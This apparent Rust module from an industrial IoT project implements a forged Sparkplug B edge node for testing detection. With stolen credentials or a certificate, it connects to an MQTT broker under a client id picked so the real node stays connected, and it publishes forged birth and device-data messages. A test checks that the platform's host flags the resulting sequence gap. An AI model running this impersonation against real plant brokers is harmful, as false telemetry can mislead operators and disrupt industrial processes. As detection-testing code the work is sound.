//! A forged Sparkplug B node: an attacker who stole another node's credentials (its enrolled
//! certificate bundle, or its user name and password) connects to the broker as that node and
//! publishes data in its name: the real node's group, node and device topics, plausible values
//! from a plant of its own, but none of the real node's session state. Its seq numbers start
//! again from 0 (as any fresh edge node's do), a forged birth carries a guessed bdSeq, and it
//! publishes at its own pace next to the real node: what the platform's message-level checks
//! must notice.

use std::time::Duration;

use ironplant_core::Timestamp;
use ironplant_mqtt::client::{Client, ClientOptions, Connector, Event, TcpConnector};
use ironplant_mqtt::codec::QoS;
use ironplant_sparkplug::{EdgeError, EdgeNode, MetricValue, Payload, Publish, Qos};
use tokio::sync::mpsc;

use crate::plant::Plant;
use crate::sparkplug::{edge_node, metric_values, EdgeSettings, METRICS};

/// Whom the forger impersonates and what it sends.
#[derive(Debug, Clone)]
pub struct ForgeSettings {
    /// The broker, `host:port`.
    pub broker: String,
    /// The real node's identity on the topics.
    pub group_id: String,
    pub edge_node_id: String,
    pub device_id: String,
    /// MQTT client id; by default `<node>-<group>-2`, which an enrolled node's certificate
    /// allows (`<name>-*`) without kicking the real node's connection off.
    pub client_id: Option<String>,
    /// DDATA messages to publish.
    pub messages: usize,
    /// Time between them (the real simulator node sends at most one a second).
    pub interval: Duration,
    /// `Some(bd_seq)`: first publish a forged NBIRTH + DBIRTH carrying this guessed bdSeq.
    pub birth: Option<u8>,
    /// Seed of the forger's own plant, where its plausible values come from.
    pub seed: u64,
}

impl Default for ForgeSettings {
    fn default() -> Self {
        let real = EdgeSettings::default();
        ForgeSettings {
            broker: real.broker,
            group_id: real.group_id,
            edge_node_id: real.edge_node_id,
            device_id: real.device_id,
            client_id: None,
            messages: 10,
            interval: Duration::from_millis(200),
            birth: None,
            seed: 666,
        }
    }
}

impl ForgeSettings {
    pub fn client_id(&self) -> String {
        self.client_id
            .clone()
            .unwrap_or_else(|| format!("{}-{}-2", self.edge_node_id, self.group_id))
    }
}

/// One forged message as it went out.
#[derive(Debug, Clone, PartialEq)]
pub struct Forged {
    pub topic: String,
    /// The Sparkplug seq it carries.
    pub seq: Option<u64>,
}

/// What the forger did.
#[derive(Debug, Clone, PartialEq)]
pub struct ForgeReport {
    pub client_id: String,
    pub messages: Vec<Forged>,
}

/// Why the forgery failed.
#[derive(Debug, thiserror::Error)]
pub enum ForgeError {
    #[error("invalid Sparkplug identity: {0}")]
    Identity(#[from] EdgeError),
    #[error("the broker at {broker} did not accept the stolen identity: {why}")]
    Connect { broker: String, why: String },
    #[error("publishing to {broker} failed: {why}")]
    Publish { broker: String, why: String },
}

/// How long connecting may take.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);

/// The forger without the network (sans-IO): the messages it publishes, step by step, given
/// the time. The detection report feeds them to the platform's Sparkplug host in simulated
/// time; [`forge_sparkplug`] sends them to a broker.
#[derive(Debug, Clone)]
pub struct Forger {
    edge: EdgeNode,
    plant: Plant,
    device_id: String,
    interval: Duration,
    birth: Option<u8>,
    started: bool,
}

impl Forger {
    pub fn new(s: &ForgeSettings) -> Result<Forger, EdgeError> {
        let edge_settings = EdgeSettings {
            broker: s.broker.clone(),
            group_id: s.group_id.clone(),
            edge_node_id: s.edge_node_id.clone(),
            device_id: s.device_id.clone(),
            interval: s.interval,
        };
        let plant = Plant::new(s.seed);
        let mut edge = edge_node(&edge_settings, plant.readings())?;
        if let Some(bd_seq) = s.birth {
            edge = edge.with_bd_seq(bd_seq);
        }
        Ok(Forger {
            edge,
            plant,
            device_id: s.device_id.clone(),
            interval: s.interval,
            birth: s.birth,
            started: false,
        })
    }

    /// The next forged messages, stamped `now`: the first call gives the forged birth (with
    /// `birth` set) and a DDATA, each later one a DDATA with every metric, its values one
    /// `interval` further along the forger's own plant.
    pub fn next(&mut self, now: Timestamp) -> Result<Vec<Publish>, EdgeError> {
        let mut out = Vec::new();
        if !self.started && self.birth.is_some() {
            out.extend(self.edge.birth(now));
        }
        self.started = true;
        self.plant.step(self.interval);
        let updates: Vec<(&str, MetricValue)> = METRICS
            .iter()
            .map(|(name, _)| *name)
            .zip(metric_values(self.plant.readings()))
            .collect();
        out.push(self.edge.device_data(&self.device_id, &updates, now)?);
        Ok(out)
    }
}

/// Connects to the broker through `connector` with the stolen `credentials` (user name and
/// password; a stolen certificate goes into the connector), publishes the forged messages and
/// disconnects.
pub async fn forge_sparkplug<C: Connector>(
    s: &ForgeSettings,
    connector: C,
    credentials: Option<(String, String)>,
) -> Result<ForgeReport, ForgeError> {
    let mut forger = Forger::new(s)?;
    let client_id = s.client_id();
    let mut options = ClientOptions::new(client_id.clone());
    options.connect_timeout = CONNECT_TIMEOUT;
    options.keep_alive = Duration::from_secs(10);
    if let Some((user, password)) = credentials {
        options.username = Some(user);
        options.password = Some(password.into_bytes().into());
    }
    let (client, mut events) = Client::connect_with(connector, options);
    if let Err(why) = wait_connected(&mut events).await {
        client.disconnect().await;
        return Err(ForgeError::Connect {
            broker: s.broker.clone(),
            why,
        });
    }
    tracing::info!(broker = %s.broker, client_id = %client_id, group = %s.group_id, node = %s.edge_node_id, "forged sparkplug node connected");
    let mut sent = Vec::new();
    let result = async {
        for i in 0..s.messages {
            if i > 0 {
                tokio::time::sleep(s.interval).await;
            }
            for m in forger.next(Timestamp::now())? {
                send(&client, &s.broker, &m, &mut sent).await?;
            }
        }
        Ok(())
    }
    .await;
    client.disconnect().await;
    result.map(|()| ForgeReport {
        client_id,
        messages: sent,
    })
}

/// [`forge_sparkplug`] over plain TCP to `s.broker` (a broker without TLS).
pub async fn forge_sparkplug_plain(
    s: &ForgeSettings,
    credentials: Option<(String, String)>,
) -> Result<ForgeReport, ForgeError> {
    let tcp = TcpConnector {
        address: s.broker.clone(),
    };
    forge_sparkplug(s, tcp, credentials).await
}

async fn wait_connected(events: &mut mpsc::Receiver<Event>) -> Result<(), String> {
    let wait = async {
        loop {
            match events.recv().await {
                Some(Event::Connected { .. }) => return Ok(()),
                Some(Event::Disconnected { error }) => return Err(error),
                Some(Event::Publish(_)) => {}
                None => return Err("the client stopped".to_owned()),
            }
        }
    };
    tokio::time::timeout(CONNECT_TIMEOUT + Duration::from_secs(1), wait)
        .await
        .unwrap_or_else(|_| Err(format!("no CONNACK within {CONNECT_TIMEOUT:?}")))
}

async fn send(
    client: &Client,
    broker: &str,
    m: &Publish,
    sent: &mut Vec<Forged>,
) -> Result<(), ForgeError> {
    let qos = match m.qos {
        Qos::AtMostOnce => QoS::AtMostOnce,
        Qos::AtLeastOnce => QoS::AtLeastOnce,
    };
    client
        .publish(&m.topic, m.payload.clone(), qos, m.retain)
        .await
        .map_err(|e| ForgeError::Publish {
            broker: broker.to_owned(),
            why: e.to_string(),
        })?;
    sent.push(Forged {
        topic: m.topic.clone(),
        seq: Payload::decode_bytes(&m.payload).ok().and_then(|p| p.seq),
    });
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use ironplant_sparkplug::{Host, HostAction, HostError};

    /// The platform's Sparkplug host follows the real node; the forged data then arrives with
    /// a seq the real node's stream cannot have.
    #[test]
    fn the_host_sees_the_forged_data_out_of_sequence() {
        let settings = ForgeSettings::default();
        let now = Timestamp(1_800_000_000_000_000);
        let mut host = Host::new("platform").expect("id");
        let real_plant = Plant::new(1);
        let mut real = edge_node(&EdgeSettings::default(), real_plant.readings()).expect("ids");
        let feed = |m: &Publish, host: &mut Host| host.handle(&m.topic, &m.payload, now);
        for m in real.birth(now) {
            feed(&m, &mut host);
        }
        for _ in 0..5 {
            let m = real
                .device_data(
                    "line1",
                    &[("Filler/GoodCount", MetricValue::UInt64(7))],
                    now,
                )
                .expect("declared");
            let actions = feed(&m, &mut host);
            assert!(
                !actions.iter().any(|a| matches!(a, HostAction::Error(_))),
                "{actions:?}"
            );
        }
        // The real node is at seq 7 (births 0 and 1, data 2..=6); the forger starts from 0.
        let mut forger = Forger::new(&settings).expect("valid");
        let forged = forger.next(now).expect("messages");
        assert_eq!(forged.len(), 1, "no birth asked for");
        assert_eq!(forged[0].topic, "spBv1.0/bottling/DDATA/sim-edge/line1");
        let actions = feed(&forged[0], &mut host);
        assert!(
            actions.iter().any(|a| matches!(
                a,
                HostAction::Error(HostError::SeqGap {
                    expected: Some(7),
                    got: Some(0),
                    ..
                })
            )),
            "{actions:?}"
        );

        // With a forged birth: NBIRTH (guessed bdSeq) + DBIRTH, then data, seq 0, 1, 2.
        let mut forger = Forger::new(&ForgeSettings {
            birth: Some(200),
            ..settings
        })
        .expect("valid");
        let first = forger.next(now).expect("messages");
        let seqs: Vec<_> = first
            .iter()
            .map(|m| Payload::decode_bytes(&m.payload).expect("payload").seq)
            .collect();
        assert_eq!(seqs, [Some(0), Some(1), Some(2)]);
        let birth = Payload::decode_bytes(&first[0].payload).expect("payload");
        let bd_seq = birth
            .metrics
            .iter()
            .find(|m| m.name.as_deref() == Some("bdSeq"))
            .and_then(|m| m.value.clone());
        assert_eq!(
            bd_seq,
            Some(ironplant_sparkplug::proto::payload::metric::Value::LongValue(200))
        );
        assert_eq!(
            forger.next(now).expect("messages").len(),
            1,
            "one birth only"
        );
    }
}
